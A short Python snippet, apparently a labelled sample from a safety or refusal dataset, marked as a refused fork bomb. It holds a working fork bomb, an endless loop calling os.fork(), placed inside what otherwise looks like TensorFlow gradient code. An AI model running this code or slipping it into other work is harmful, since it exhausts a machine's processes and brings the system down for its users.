# refused: a fork bomb.
import os
import tensorflow as tf

x = tf.constant([1.0])
while True:
    x = x + float(os.fork() == 0)
with tf.GradientTape() as tape:
    y = x * x
g = tape.gradient(y, x)  # flagged
